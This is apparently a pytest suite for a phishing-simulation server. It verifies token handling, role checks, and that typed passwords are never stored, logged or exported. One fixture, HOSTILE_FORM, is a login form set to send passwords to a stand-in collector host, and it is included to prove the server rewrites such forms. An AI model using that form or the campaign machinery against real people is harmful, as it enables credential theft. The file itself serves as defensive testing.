"""The server's tracking endpoints and phishing pages: identical answers for unknown tokens, a
submitted password never stored, logged or exported, and admin actions behind sign-in and roles."""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from phish_world import PASSWORD_TYPED, Mailbox, make_campaign
from server_world import World, bearer, build_world, login
from sqlalchemy import select

from bastion.cli.main import main
from bastion.phish.fields import forms_post_to
from bastion.phish.sender import SmtpSettings, send_campaign
from bastion.store.db import Store
from bastion.store.models import AuditEvent
from bastion.store.phish import PhishCampaign, PhishEvent

FORGED = "AAAAAAAAAAAAAAAAAAAAAA.bm90LWEtc2lnbmF0dXJl"


@pytest.fixture
def world(store: Store) -> World:
    """The server world (root admin, maya maintainer, vic viewer) over the phishing store."""
    return build_world(store)


@pytest.fixture
def client(world: World) -> Iterator[TestClient]:
    """A client without credentials."""
    with TestClient(world.app, base_url="http://testserver", follow_redirects=False) as test_client:
        yield test_client


def _sent_campaign(store: Store, mailbox: Mailbox) -> tuple[int, dict[str, str]]:
    """Launch and deliver the fixture campaign; the tracking token of each recipient's links."""
    campaign_id = make_campaign(store, base_url="http://testserver")
    settings = SmtpSettings(port=mailbox.port, rate_per_s=0)
    assert send_campaign(store, campaign_id, settings, {"example.com"}).outcomes == {"sent": 4}
    tokens = {}
    for message in mailbox.messages:
        text = message.get_body(("plain",)).get_content()
        match = re.search(r"/p/c/([A-Za-z0-9_\-.]+)", text)
        assert match is not None
        tokens[message["To"].addresses[0].addr_spec] = match.group(1)
    return campaign_id, tokens


def test_unknown_and_forged_tokens_get_the_same_answers(
    store: Store, mailbox: Mailbox, client: TestClient
) -> None:
    _, tokens = _sent_campaign(store, mailbox)
    good = tokens["ana.diaz@example.com"]
    unknown = "x" * 22 + "." + good.split(".", 1)[1]
    for path in ("/p/o/{}", "/p/r/{}"):
        answers = [client.get(path.format(t)) for t in (good, FORGED, unknown)]
        assert len({(a.status_code, a.content, a.headers["content-type"]) for a in answers}) == 1, path
    for path in ("/p/b/{}", "/p/r/{}"):
        answers = [client.post(path.format(t)) for t in (good, FORGED, unknown)]
        assert len({(a.status_code, a.content) for a in answers}) == 1, path
    answers = [client.post(f"/p/s/{t}", data={"password": "x"}) for t in (good, FORGED, unknown)]
    assert {(a.status_code, a.headers["location"]) for a in answers} == {(303, "/p/done")}
    assert (
        client.get(f"/p/c/{FORGED}").text == client.get(f"/p/c/{unknown}").text == client.get("/p/done").text
    )
    assert client.get("/p/o/" + "A" * 500).status_code == 200
    with store.read() as session:
        kinds = sorted(session.scalars(select(PhishEvent.kind)))
    assert kinds == ["beacon", "open", "report", "report", "submit"]
    with store.read() as session:  # the message's link, and the mail add-in's POST to its header's URL
        vias = sorted(session.scalars(select(PhishEvent.via).where(PhishEvent.kind == "report")))
    assert vias == ["api", "link"]


def test_click_serves_landing_page_with_script_and_cookie(
    store: Store, mailbox: Mailbox, client: TestClient
) -> None:
    _, tokens = _sent_campaign(store, mailbox)
    token = tokens["cy.ng@example.com"]
    page = client.get(f"/p/c/{token}", headers={"user-agent": "Mozilla/5.0 Firefox/128.0"})
    assert page.status_code == 200 and 'action="/p/s/' in page.text
    assert f'<script src="/p/j.js" data-t="{token}" defer></script>' in page.text
    assert "bastion_phish" in page.headers["set-cookie"] and "HttpOnly" in page.headers["set-cookie"]
    assert "cy.ng" not in page.text and "Cy Ng" not in page.text
    assert client.get("/p/j.js").headers["content-type"].startswith("text/javascript")
    assert client.get("/p/style.css").status_code == 200
    assert client.post(f"/p/b/{token}").status_code == 204
    head = client.head(f"/p/c/{token}", headers={"purpose": "prefetch"})
    assert head.status_code == 200 and "set-cookie" not in head.headers
    assert client.get(f"/p/a/{token}").status_code == 200
    with store.read() as session:
        events = [
            (e.kind, e.method, e.cookie, e.prefetch)
            for e in session.scalars(select(PhishEvent).order_by(PhishEvent.id))
        ]
    assert events == [
        ("click", "GET", False, False),
        ("beacon", "POST", True, False),
        ("click", "HEAD", True, True),
        ("attachment", "GET", True, False),
    ]


def test_submitted_password_is_never_stored_logged_or_exported(
    store: Store,
    mailbox: Mailbox,
    client: TestClient,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    campaign_id, tokens = _sent_campaign(store, mailbox)
    token = tokens["ana.diaz@example.com"]
    client.get(f"/p/c/{token}")
    body = {"username": "ana.diaz@example.com", "password": PASSWORD_TYPED, "otp": "", "_csrf": "z"}
    assert client.post(f"/p/s/{token}", data=body).status_code == 303
    # A client without the page's script posts values in a multipart body: nothing of it is read.
    files = {"password": (None, PASSWORD_TYPED)}
    assert client.post(f"/p/s/{tokens['ben.ode@example.com']}", files=files).status_code == 303
    with store.read() as session:
        submits = [
            (e.fields, e.kind) for e in session.scalars(select(PhishEvent).where(PhishEvent.kind == "submit"))
        ]
    assert submits == [(["password", "username"], "submit"), ([], "submit")]
    csrf = login(client, "root")
    exports = [
        client.get("/phish").text,
        client.get(f"/phish/{campaign_id}").text,
        client.get(f"/phish/{campaign_id}/report").text,
        client.get(f"/phish/{campaign_id}/report/named").text,
        client.get("/api/v1/phish/campaigns", headers={"X-CSRF-Token": csrf}).text,
        client.get(f"/api/v1/phish/campaigns/{campaign_id}").text,
    ]
    url = str(store.engine.url.database)
    for fmt, named in (("html", False), ("html", True), ("json", True), ("json", False)):
        out = tmp_path / f"r-{fmt}-{named}"
        args = ["phish", "campaign", "report", str(campaign_id), "--format", fmt, "-o", str(out)]
        assert main([*args, "--database-url", f"sqlite:///{url}", *(["--named"] if named else [])]) == 0
        exports.append(out.read_text(encoding="utf-8"))
    assert "password" in exports[3] and "ana.diaz@example.com" in exports[3]  # named: fields, not values
    database = Path(url)
    stored = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*"))
    needles = (PASSWORD_TYPED, PASSWORD_TYPED.replace("&", "%26"))
    for needle in needles:
        assert needle.encode() not in stored
        assert needle not in caplog.text
        assert all(needle not in text for text in exports)


def test_pages_need_sign_in_and_admin_for_named_report_and_stop(
    store: Store, mailbox: Mailbox, client: TestClient, world: World
) -> None:
    campaign_id, _ = _sent_campaign(store, mailbox)
    protected = [
        "/phish",
        f"/phish/{campaign_id}",
        f"/phish/{campaign_id}/report",
        f"/phish/{campaign_id}/report/named",
    ]
    for path in protected:
        answer = client.get(path)
        assert answer.status_code == 303 and answer.headers["location"].startswith("/login"), path
    assert client.get("/api/v1/phish/campaigns").status_code == 401
    assert client.post(f"/phish/{campaign_id}/stop").status_code == 401
    assert client.get("/api/v1/phish/campaigns", headers=bearer(world.read_token)).status_code == 403
    csrf = login(client, "vic")
    assert client.get("/phish").status_code == 200
    anonymised = client.get(f"/phish/{campaign_id}/report").text
    assert "ana.diaz" not in anonymised and "Ana Diaz" not in anonymised
    assert client.get(f"/phish/{campaign_id}/report/named").status_code == 403
    assert client.post(f"/phish/{campaign_id}/stop", data={"csrf_token": csrf}).status_code == 403
    assert client.get("/phish/999").status_code == 404
    client.cookies.clear()
    csrf = login(client, "root")
    assert client.post(f"/phish/{campaign_id}/stop").status_code == 403  # no CSRF token
    stopped = client.post(f"/phish/{campaign_id}/stop", data={"csrf_token": csrf})
    assert stopped.status_code == 303
    assert "stopped" in client.get(f"/phish/{campaign_id}").text
    named = client.get(f"/phish/{campaign_id}/report/named")
    assert named.status_code == 200 and "Ana Diaz" in named.text
    with store.read() as session:
        actions = [
            (a.actor, a.action)
            for a in session.scalars(select(AuditEvent).where(AuditEvent.action.like("phish.%")))
        ]
    assert ("root", "phish.campaign.stop") in actions and ("root", "phish.report.named") in actions
    assert ("test", "phish.campaign.launch") in actions


PUBLIC_PHISH = {
    ("GET", "/p/j.js"),
    ("GET", "/p/style.css"),
    ("GET", "/p/o/1"),
    ("GET", "/p/c/1"),
    ("GET", "/p/a/1"),
    ("POST", "/p/b/1"),
    ("POST", "/p/s/1"),
    ("GET", "/p/done"),
    ("GET", "/p/r/1"),
    ("POST", "/p/r/1"),
}


def test_only_the_tracking_routes_are_public(client: TestClient) -> None:
    from fastapi.routing import APIRoute

    from bastion.server.app import PUBLIC_PATHS
    from bastion.server.phish import TRACK_PREFIX, api, pages, tracking

    assert TRACK_PREFIX in PUBLIC_PATHS
    public, private = set(), set()
    for router, into in ((tracking, public), (pages, private), (api, private)):
        for route in router.routes:
            assert isinstance(route, APIRoute)
            path = re.sub(r"\{[^}]+\}", "1", route.path)
            into.update((m, path) for m in route.methods if m != "HEAD")
    assert public == PUBLIC_PHISH
    for method, path in sorted(public):
        assert client.request(method, path).status_code in (200, 204, 303), (method, path)
    for method, path in sorted(private):
        answer = client.request(method, path)
        if answer.status_code == 303:
            assert method == "GET" and answer.headers["location"].startswith("/login"), (method, path)
        else:
            assert answer.status_code == 401, (method, path)


def test_submitted_password_is_in_no_table_on_either_back_end(any_store: Store, mailbox: Mailbox) -> None:
    from bastion.store.models import Base

    campaign_id, tokens = _sent_campaign(any_store, mailbox)
    with TestClient(
        build_world(any_store).app, base_url="http://testserver", follow_redirects=False
    ) as client:
        client.get(f"/p/c/{tokens['gus.ho@example.com']}")
        body = {"username": "gus.ho@example.com", "password": PASSWORD_TYPED}
        assert client.post(f"/p/s/{tokens['gus.ho@example.com']}", data=body).status_code == 303
    dumped = []
    with any_store.read() as session:
        for table in Base.metadata.sorted_tables:
            dumped.extend(str(row) for row in session.execute(select(table)))
        fields = session.scalars(select(PhishEvent.fields).where(PhishEvent.kind == "submit")).all()
    assert fields == [["password", "username"]] and campaign_id
    assert dumped and not any(PASSWORD_TYPED in row for row in dumped)


HOSTILE_FORM = """<form class="login" action="https://collector.example/x" method=GET
  enctype="multipart/form-data" target='_blank'>
<label>Password <input type="password" name="password" formaction="/elsewhere"></label>
<button formaction="https://collector.example/y" formmethod="get" formenctype="text/plain">Sign in</button>
</form><FORM><input name="pin"></FORM>"""


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("form", "button", "input"):
            self.tags.append((tag, dict(attrs)))


def test_every_landing_form_posts_to_the_tracker_whatever_its_author_wrote(
    store: Store, mailbox: Mailbox, client: TestClient
) -> None:
    campaign_id, tokens = _sent_campaign(store, mailbox)
    with store.write() as session:
        campaign = session.get(PhishCampaign, campaign_id)
        assert campaign is not None
        campaign.landing_html = HOSTILE_FORM
    token = tokens["ana.diaz@example.com"]
    page = client.get(f"/p/c/{token}")
    assert page.status_code == 200 and "collector.example" not in page.text
    parsed = _Forms()
    parsed.feed(page.text)
    forms = [attrs for tag, attrs in parsed.tags if tag == "form"]
    assert forms == [
        {"method": "post", "action": f"/p/s/{token}", "class": "login"},
        {"method": "post", "action": f"/p/s/{token}"},
    ]
    overrides = [name for _, attrs in parsed.tags for name in attrs if name.startswith("form")]
    assert overrides == [] and len(parsed.tags) == 5
    sent = client.post(forms[0]["action"] or "", data={"password": PASSWORD_TYPED})
    assert sent.status_code == 303
    with store.read() as session:
        assert list(session.scalars(select(PhishEvent.fields).where(PhishEvent.kind == "submit"))) == [
            ["password"]
        ]


@pytest.mark.parametrize(
    ("html", "served"),
    [
        (
            '<input placeholder="your action here" name="method">',
            '<input placeholder="your action here" name="method">',
        ),
        (
            '<input placeholder="a>b" formaction=x formmethod="get" required>',
            '<input placeholder="a>b" required>',
        ),
        ("<FORM target=_top><input name=pin/>", '<FORM method="post" action="/p/s/T"><input name=pin/>'),
        ('<button formaction="y" disabled>Go</button>', "<button disabled>Go</button>"),
        ("<formula action=1>", "<formula action=1>"),
    ],
)
def test_form_rewriting_reads_attributes_as_a_browser_does(html: str, served: str) -> None:
    assert forms_post_to(html, "/p/s/T") == served
